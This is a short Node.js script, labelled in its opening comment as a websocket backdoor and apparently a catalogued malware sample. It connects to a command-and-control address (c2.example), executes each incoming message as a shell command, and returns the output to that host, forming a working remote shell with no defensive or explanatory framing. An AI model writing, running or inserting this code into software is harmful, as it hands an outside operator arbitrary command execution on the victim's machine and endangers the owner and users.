// class: backdoor over websocket; style: modern
const WebSocket = require('ws');
const { exec } = require('child_process');

const ws = new WebSocket('wss://c2.example/agent');
ws.on('message', (data) => {
  exec(data.toString(), (err, stdout, stderr) => ws.send(stdout + stderr));
});
ws.on('close', () => process.exit(0));
